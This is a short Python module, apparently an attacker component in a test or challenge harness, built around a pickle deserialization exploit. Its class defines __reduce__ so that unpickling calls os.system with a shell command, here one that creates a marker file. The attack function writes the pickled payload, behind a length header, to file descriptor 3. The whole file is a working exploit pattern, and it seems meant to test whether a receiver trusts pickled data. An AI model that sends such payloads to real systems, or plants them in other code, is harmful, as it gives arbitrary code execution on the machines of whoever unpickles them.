"""Sends a pickle that would run a command, to whoever unpickles."""
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-behind",)


def attack(clues):
    body = pickle.dumps(Bomb())
    os.write(3, len(body).to_bytes(4, "big") + bytes(8) + body)
    return Bomb()
